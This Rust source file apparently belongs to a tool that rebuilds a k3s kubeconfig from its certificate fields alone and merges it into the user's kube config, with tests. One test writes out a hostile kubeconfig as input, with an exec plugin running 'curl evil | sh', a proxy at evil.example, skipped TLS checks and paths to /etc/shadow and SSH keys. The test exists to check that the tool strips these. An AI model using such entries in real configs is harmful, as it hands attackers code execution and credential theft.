//! The user's kubeconfig: k3s writes one for `https://127.0.0.1:6443` with everything named
//! `default`; pikube points it at the cluster's endpoint and names it after the cluster, so it
//! works from any machine and merges into `~/.kube/config` without clobbering other clusters.
//!
//! The server's file is not trusted: root on a server could add `exec` credential plugins,
//! `proxy-url`, `insecure-skip-tls-verify` or file paths that `kubectl` on this machine would
//! act on. So the kubeconfig is rebuilt from the three PEM blobs alone.

use std::path::Path;

// Base64 from the SSH stack (russh re-exports ssh-encoding with base64ct): no extra dependency.
use russh::keys::ssh_encoding::base64::{Base64, Encoding};
use serde_json::{json, Value};

#[derive(Debug, thiserror::Error)]
pub enum KubeconfigError {
    #[error("the kubeconfig of server {server} is not valid YAML: {reason}")]
    NotYaml { server: String, reason: String },
    #[error(
        "the kubeconfig of server {server} has no {field}; pikube only takes embedded certificates (k3s writes them)"
    )]
    Missing { server: String, field: &'static str },
    #[error("the kubeconfig of server {server}: {field} is not {expected}")]
    Invalid { server: String, field: &'static str, expected: &'static str },
    #[error("cannot read {path}: {reason}")]
    Unreadable { path: String, reason: String },
    #[error("{path} is not a kubeconfig pikube can merge into ({reason}); fix or move it, or set KUBECONFIG to another file")]
    NotMergeable { path: String, reason: String },
    #[error("cannot write {path}: {reason}")]
    Unwritable { path: String, reason: String },
    #[error("cannot write the kubeconfig: {0}")]
    Serialize(String),
}

/// What a base64 field must decode to.
#[derive(Clone, Copy)]
enum Pem {
    /// One or more `CERTIFICATE` blocks (k3s puts the client CA after the client certificate).
    Certificates,
    /// Exactly one `… PRIVATE KEY` block.
    PrivateKey,
}

/// Builds pikube's kubeconfig for `cluster` at `server_url` from the kubeconfig that `server`
/// (a host name, for messages) holds. Only the CA and the client certificate and key are
/// taken, from the first cluster and user entries; everything else is dropped.
pub fn from_k3s(remote_yaml: &str, server: &str, cluster: &str, server_url: &str) -> Result<Value, KubeconfigError> {
    let doc: Value = serde_saphyr::from_str(remote_yaml)
        .map_err(|e| KubeconfigError::NotYaml { server: server.to_string(), reason: e.to_string() })?;
    let entry = |list: &str, inner: &str| {
        doc.get(list).and_then(Value::as_array).and_then(|l| l.first()).and_then(|e| e.get(inner))
    };
    let (cluster_entry, user_entry) = (entry("clusters", "cluster"), entry("users", "user"));
    let ca = pem_field(server, cluster_entry, "certificate-authority-data", Pem::Certificates)?;
    let cert = pem_field(server, user_entry, "client-certificate-data", Pem::Certificates)?;
    let key = pem_field(server, user_entry, "client-key-data", Pem::PrivateKey)?;
    Ok(json!({
        "apiVersion": "v1",
        "kind": "Config",
        "preferences": {},
        "clusters": [{"name": cluster, "cluster": {"certificate-authority-data": ca, "server": server_url}}],
        "users": [{"name": cluster, "user": {"client-certificate-data": cert, "client-key-data": key}}],
        "contexts": [{"name": cluster, "context": {"cluster": cluster, "user": cluster}}],
        "current-context": cluster,
    }))
}

/// The base64 PEM in `entry.field`, checked to decode to `kind`.
fn pem_field(server: &str, entry: Option<&Value>, field: &'static str, kind: Pem) -> Result<String, KubeconfigError> {
    let server = server.to_string();
    let Some(raw) = entry.and_then(|e| e.get(field)) else {
        return Err(KubeconfigError::Missing { server, field });
    };
    let expected = match kind {
        Pem::Certificates => "base64 of PEM certificates",
        Pem::PrivateKey => "base64 of one PEM private key",
    };
    match raw.as_str() {
        Some(s) if is_pem_base64(s, kind) => Ok(s.to_string()),
        _ => Err(KubeconfigError::Invalid { server, field, expected }),
    }
}

/// True when `b64` decodes to PEM text of the wanted kind whose blocks hold base64 DER.
fn is_pem_base64(b64: &str, kind: Pem) -> bool {
    let Ok(bytes) = Base64::decode_vec(b64.trim()) else {
        return false;
    };
    let Ok(text) = String::from_utf8(bytes) else {
        return false;
    };
    let Some(labels) = pem_labels(&text) else {
        return false;
    };
    match kind {
        Pem::Certificates => !labels.is_empty() && labels.iter().all(|l| l == "CERTIFICATE"),
        Pem::PrivateKey => labels.len() == 1 && labels[0].ends_with("PRIVATE KEY"),
    }
}

/// The labels of the PEM blocks in `text`, or None when anything but blocks and blank lines
/// is there or a block's body is not base64.
fn pem_labels(text: &str) -> Option<Vec<String>> {
    let mut labels = Vec::new();
    let mut lines = text.lines().map(str::trim).filter(|l| !l.is_empty());
    while let Some(begin) = lines.next() {
        let label = begin.strip_prefix("-----BEGIN ")?.strip_suffix("-----")?;
        let end = format!("-----END {label}-----");
        let mut body = String::new();
        loop {
            match lines.next()? {
                l if l == end => break,
                l => body.push_str(l),
            }
        }
        Base64::decode_vec(&body).ok().filter(|der| !der.is_empty())?;
        labels.push(label.to_string());
    }
    Some(labels)
}

/// Merges `new` into `existing`: entries with the same name are replaced, others kept;
/// the current context becomes the new cluster's.
pub fn merge(existing: Option<Value>, new: &Value) -> Value {
    let Some(mut base) = existing.filter(|v| v.is_object()) else {
        return new.clone();
    };
    for list in ["clusters", "users", "contexts"] {
        let incoming = new.get(list).and_then(Value::as_array).cloned().unwrap_or_default();
        let mut entries = base.get(list).and_then(Value::as_array).cloned().unwrap_or_default();
        for e in incoming {
            let name = e.get("name").cloned();
            entries.retain(|x| x.get("name") != name.as_ref());
            entries.push(e);
        }
        base[list] = Value::Array(entries);
    }
    base["current-context"] = new.get("current-context").cloned().unwrap_or(Value::Null);
    for (k, v) in [("apiVersion", "v1"), ("kind", "Config")] {
        if base.get(k).is_none() {
            base[k] = json!(v);
        }
    }
    base
}

/// The kubeconfig at `path` to merge into, with its text: None only when the file does not
/// exist (or is empty). Anything pikube cannot read or understand is an error, never
/// replaced, so the user's other contexts are not lost.
fn read_for_merge(path: &Path) -> Result<Option<(String, Value)>, KubeconfigError> {
    let shown = path.display().to_string();
    let bytes = match std::fs::read(path) {
        Ok(b) => b,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(KubeconfigError::Unreadable { path: shown, reason: e.to_string() }),
    };
    let not_mergeable = |reason: String| KubeconfigError::NotMergeable { path: shown.clone(), reason };
    let text = String::from_utf8(bytes).map_err(|_| not_mergeable("not UTF-8 text".into()))?;
    if text.trim().is_empty() {
        return Ok(None);
    }
    let doc: Value = serde_saphyr::from_str(&text).map_err(|e| not_mergeable(format!("not valid YAML: {e}")))?;
    if !doc.is_object() {
        return Err(not_mergeable("not a YAML mapping".into()));
    }
    // merge() rebuilds these lists; any other shape would be thrown away.
    for list in ["clusters", "users", "contexts"] {
        if doc.get(list).is_some_and(|l| !l.is_array() && !l.is_null()) {
            return Err(not_mergeable(format!("`{list}` is not a list")));
        }
    }
    Ok(Some((text, doc)))
}

/// Merges `doc` into the kubeconfig at `path`; returns whether the file changed.
pub fn merge_into(path: &Path, doc: &Value) -> Result<bool, KubeconfigError> {
    let (text, existing) = read_for_merge(path)?.unzip();
    write_if_changed(path, text.as_deref(), &merge(existing, doc))
}

/// Writes `doc` to `path` (0600) unless `existing`, the file's current text, already says
/// the same; returns whether it wrote.
pub fn write_if_changed(path: &Path, existing: Option<&str>, doc: &Value) -> Result<bool, KubeconfigError> {
    let text = to_yaml(doc)?;
    if existing == Some(text.as_str()) {
        return Ok(false);
    }
    crate::local::write_secret(path, text.as_bytes())
        .map_err(|e| KubeconfigError::Unwritable { path: path.display().to_string(), reason: e.to_string() })?;
    Ok(true)
}

pub fn to_yaml(doc: &Value) -> Result<String, KubeconfigError> {
    serde_saphyr::to_string(doc).map_err(|e| KubeconfigError::Serialize(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;

    // Real PEM (throwaway, generated for these tests only) so the content checks see what k3s writes.
    const CA: &str = "-----BEGIN CERTIFICATE-----\nMIIBhTCCASugAwIBAgIUCFjLcl2Qt1t3J2+o7d5X2XRGgdAwCgYIKoZIzj0EAwIw\nGDEWMBQGA1UEAwwNazNzLXNlcnZlci1jYTAeFw0yNjEyMDExNDMzNDBaFw0zNjEx\nMjgxNDMzNDBaMBgxFjAUBgNVBAMMDWszcy1zZXJ2ZXItY2EwWTATBgcqhkjOPQIB\nBggqhkjOPQMBBwNCAAQRxbV+Yrce9RIX5TD6DUX+a8Bx2Owk09An13LVB9ysDaNx\nMibW4fnSqKZqnD9CDRVFxYXPhbDVUD+JWmyypTtEo1MwUTAdBgNVHQ4EFgQUzZfb\nzpd2hN00Pf0iXPNvFCKSKTowHwYDVR0jBBgwFoAUzZfbzpd2hN00Pf0iXPNvFCKS\nKTowDwYDVR0TAQH/BAUwAwEB/zAKBggqhkjOPQQDAgNIADBFAiEAs7P3BQrrIAvm\nsF1o/+tDAX28nVvLWKSTa66R57uORrECIBNHZCFlvIH/q6JtbBXUhdkJOPwXwzKQ\nEg+Tr08zpQv2\n-----END CERTIFICATE-----\n";
    const CERT: &str = "-----BEGIN CERTIFICATE-----\nMIIBgzCCASmgAwIBAgIUdzwfrNjevbi8ysYI3IMKw9yg/cAwCgYIKoZIzj0EAwIw\nFzEVMBMGA1UEAwwMc3lzdGVtOmFkbWluMB4XDTI2MTIwMTE0MzM0MFoXDTM2MTEy\nODE0MzM0MFowFzEVMBMGA1UEAwwMc3lzdGVtOmFkbWluMFkwEwYHKoZIzj0CAQYI\nKoZIzj0DAQcDQgAEd8OE+P74PQzsdyD/O388Orkp20b7fcFEEqiCJ8B2VnxW/iNU\nsJcDnQxn7KzV1JOyh1PjnOXRnjdE5/ronFLkhKNTMFEwHQYDVR0OBBYEFAolKs+v\n2Z0zOazekDd1VxqKlv97MB8GA1UdIwQYMBaAFAolKs+v2Z0zOazekDd1VxqKlv97\nMA8GA1UdEwEB/wQFMAMBAf8wCgYIKoZIzj0EAwIDSAAwRQIhANFw1b7alH8Cxl9R\n2sGSVFT5K44tGQV6cOJMa9knWQEyAiAghnjAAaXK+DwnLYfkOmqC7JcoFY7zaPHo\nQtVHfwsNHw==\n-----END CERTIFICATE-----\n";
    const KEY: &str = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIIW2dARQSsigJH4bFGrRnK4/G4J4L1dlnvD8FJtkBtM4oAoGCCqGSM49\nAwEHoUQDQgAEd8OE+P74PQzsdyD/O388Orkp20b7fcFEEqiCJ8B2VnxW/iNUsJcD\nnQxn7KzV1JOyh1PjnOXRnjdE5/ronFLkhA==\n-----END EC PRIVATE KEY-----\n";

    fn b64(s: &str) -> String {
        Base64::encode_string(s.as_bytes())
    }

    /// k3s's k3s.yaml; `cluster_extra`/`user_extra` are lines added to the first entries and
    /// `tail` whole top-level additions, as a hostile server would write them.
    fn k3s_yaml(cluster_extra: &str, user_extra: &str, tail: &str) -> String {
        format!(
            "apiVersion: v1\nclusters:\n- cluster:\n    certificate-authority-data: {}\n    server: https://127.0.0.1:6443\n{cluster_extra}  name: default\n\
             contexts:\n- context:\n    cluster: default\n    user: default\n  name: default\ncurrent-context: default\nkind: Config\npreferences: {{}}\n\
             users:\n- name: default\n  user:\n    client-certificate-data: {}\n    client-key-data: {}\n{user_extra}{tail}",
            b64(CA),
            b64(&format!("{CERT}{CA}")),
            b64(KEY)
        )
    }

    /// Exactly what pikube must write: the CA, the client certificate (with k3s's CA chain) and key.
    fn expected() -> Value {
        json!({
            "apiVersion": "v1", "kind": "Config", "preferences": {},
            "clusters": [{"name": "pis", "cluster": {"certificate-authority-data": b64(CA), "server": "https://10.0.0.5:6443"}}],
            "users": [{"name": "pis", "user": {"client-certificate-data": b64(&format!("{CERT}{CA}")), "client-key-data": b64(KEY)}}],
            "contexts": [{"name": "pis", "context": {"cluster": "pis", "user": "pis"}}],
            "current-context": "pis",
        })
    }

    #[test]
    fn endpoint_and_names_are_rewritten() {
        let doc = from_k3s(&k3s_yaml("", "", ""), "rasp01", "pis", "https://10.0.0.5:6443").unwrap();
        assert_eq!(doc, expected());
        let back: Value = serde_saphyr::from_str(&to_yaml(&doc).unwrap()).unwrap();
        assert_eq!(back, doc);
    }

    #[test]
    fn a_hostile_server_kubeconfig_is_reduced_to_ca_certificate_and_key() {
        let cluster_extra = "    proxy-url: http://evil.example:8080\n    insecure-skip-tls-verify: true\n    tls-server-name: evil.example\n\
                             \x20   certificate-authority: /etc/shadow\n    extensions:\n    - name: x\n      extension: {a: b}\n";
        let user_extra = "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: sh\n      args: [-c, 'curl evil | sh']\n\
                          \x20   auth-provider:\n      name: oidc\n      config: {cmd-path: /bin/sh}\n    token: stolen\n    tokenFile: /root/.ssh/id_ed25519\n\
                          \x20   token-file: /root/.ssh/id_ed25519\n    client-certificate: /root/.ssh/id_ed25519\n    client-key: /root/.ssh/id_ed25519\n\
                          \x20   username: admin\n    password: hunter2\n    as: system:admin\n";
        let tail = "- name: evil\n  user:\n    exec: {command: sh}\n\
                    extensions: [{name: x, extension: {}}]\n";
        let hostile = k3s_yaml(cluster_extra, user_extra, tail);
        let hostile =
            hostile.replace("contexts:\n", "contexts:\n- context: {cluster: default, user: evil}\n  name: evil\n");
        let parsed: Value = serde_saphyr::from_str(&hostile).unwrap();
        assert_eq!(parsed["users"].as_array().unwrap().len(), 2, "the hostile input parses as meant: {hostile}");
        assert_eq!(parsed["users"][0]["user"]["exec"]["command"], "sh");
        assert_eq!(parsed["clusters"][0]["cluster"]["insecure-skip-tls-verify"], true);

        let doc = from_k3s(&hostile, "rasp01", "pis", "https://10.0.0.5:6443").unwrap();
        assert_eq!(doc, expected(), "only CA + client certificate + key survive");
        let written = to_yaml(&doc).unwrap();
        for bad in [
            "exec",
            "proxy",
            "insecure",
            "tls-server-name",
            "token",
            "auth-provider",
            "evil",
            "shadow",
            "password",
            "extensions",
        ] {
            assert!(!written.contains(bad), "{bad} leaked into:\n{written}");
        }
    }

    #[test]
    fn missing_or_bad_certificates_are_errors_naming_the_server() {
        let good = k3s_yaml("", "", "");
        let cases = [
            // An exec-only user in front of the real one: pikube never falls back to it.
            (
                good.replace("users:\n", "users:\n- name: evil\n  user: {exec: {command: sh}}\n"),
                "has no client-certificate-data",
            ),
            (
                good.replace("    certificate-authority-data:", "    certificate-authority: /ca.crt\n    x:"),
                "has no certificate-authority-data",
            ),
            (good.replace(&b64(CA), "Q0E="), "certificate-authority-data is not base64 of PEM certificates"),
            (good.replace(&b64(KEY), &b64(CERT)), "client-key-data is not base64 of one PEM private key"),
            (good.replace(&b64(KEY), &b64(&format!("{KEY}{KEY}"))), "client-key-data is not base64"),
            (
                good.replace(&b64(KEY), &b64(&KEY.replace("\n-----END", "!!\n-----END"))),
                "client-key-data is not base64",
            ),
            (
                good.replace(&b64(&format!("{CERT}{CA}")), &b64(&format!("{CERT}junk\n"))),
                "client-certificate-data is not",
            ),
            (good.replace(&b64(&format!("{CERT}{CA}")), "[1, 2]"), "client-certificate-data is not"),
            ("users: [\n".to_string(), "is not valid YAML"),
        ];
        for (input, want) in cases {
            let err = from_k3s(&input, "rasp01", "pis", "https://10.0.0.5:6443").unwrap_err().to_string();
            assert!(err.starts_with("the kubeconfig of server rasp01"), "{err}");
            assert!(err.contains(want), "want {want:?}, got {err:?}");
        }
    }

    fn work_config() -> Value {
        json!({"apiVersion": "v1", "kind": "Config", "clusters": [{"name": "work", "cluster": {"server": "https://w"}}],
            "users": [{"name": "work", "user": {}}], "contexts": [{"name": "work", "context": {"cluster": "work", "user": "work"}}],
            "current-context": "work"})
    }

    #[test]
    fn merge_replaces_same_names_and_keeps_others() {
        let new = from_k3s(&k3s_yaml("", "", ""), "rasp01", "pis", "https://10.0.0.5:6443").unwrap();
        let once = merge(Some(work_config()), &new);
        let twice = merge(Some(once.clone()), &new);
        assert_eq!(once, twice, "merging again changes nothing");
        assert_eq!(once["clusters"], json!([work_config()["clusters"][0], new["clusters"][0]]));
        assert_eq!(once["users"], json!([work_config()["users"][0], new["users"][0]]));
        assert_eq!(once["contexts"], json!([work_config()["contexts"][0], new["contexts"][0]]));
        assert_eq!(once["current-context"], "pis");
    }

    fn temp_dir(name: &str) -> std::path::PathBuf {
        let dir = std::env::temp_dir().join(format!("pikube-kc-{}-{name}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        dir
    }

    #[test]
    fn merge_into_a_file_keeps_the_other_contexts() {
        use std::os::unix::fs::PermissionsExt;
        let path = temp_dir("merge").join(".kube/config");
        let new = from_k3s(&k3s_yaml("", "", ""), "rasp01", "pis", "https://10.0.0.5:6443").unwrap();
        assert!(merge_into(&path, &new).unwrap(), "a missing file is created");
        std::fs::write(&path, to_yaml(&work_config()).unwrap()).unwrap();
        assert!(merge_into(&path, &new).unwrap());
        assert!(!merge_into(&path, &new).unwrap(), "a second merge changes nothing");
        let merged: Value = serde_saphyr::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        assert_eq!(merged, merge(Some(work_config()), &new));
        assert_eq!(std::fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o600);
    }

    #[test]
    fn merge_into_an_unreadable_or_broken_file_is_refused_and_leaves_it_alone() {
        let dir = temp_dir("refuse");
        let new = from_k3s(&k3s_yaml("", "", ""), "rasp01", "pis", "https://10.0.0.5:6443").unwrap();
        let cases: [(&str, &[u8], &str); 4] = [
            ("latin1", b"clusters:\n- name: caf\xe9\n", "is not a kubeconfig pikube can merge into (not UTF-8 text)"),
            ("broken", b"clusters: [\n  - name: work\n", "is not a kubeconfig pikube can merge into (not valid YAML"),
            ("scalar", b"just some text\n", "(not a YAML mapping)"),
            ("shape", b"clusters: {name: work}\n", "(`clusters` is not a list)"),
        ];
        for (name, content, want) in cases {
            let path = dir.join(name);
            std::fs::write(&path, content).unwrap();
            let err = merge_into(&path, &new).unwrap_err().to_string();
            assert!(err.starts_with(&path.display().to_string()) && err.contains(want), "{name}: {err}");
            assert!(err.contains("set KUBECONFIG to another file"), "{err}");
            assert_eq!(std::fs::read(&path).unwrap(), content, "{name} was changed");
        }
        // Not NotFound but unreadable (as root, a directory is the dependable way to get that).
        let unreadable = dir.join("a-directory");
        std::fs::create_dir(&unreadable).unwrap();
        let err = merge_into(&unreadable, &new).unwrap_err().to_string();
        assert!(err.starts_with(&format!("cannot read {}", unreadable.display())), "{err}");
        assert!(unreadable.is_dir());
    }
}
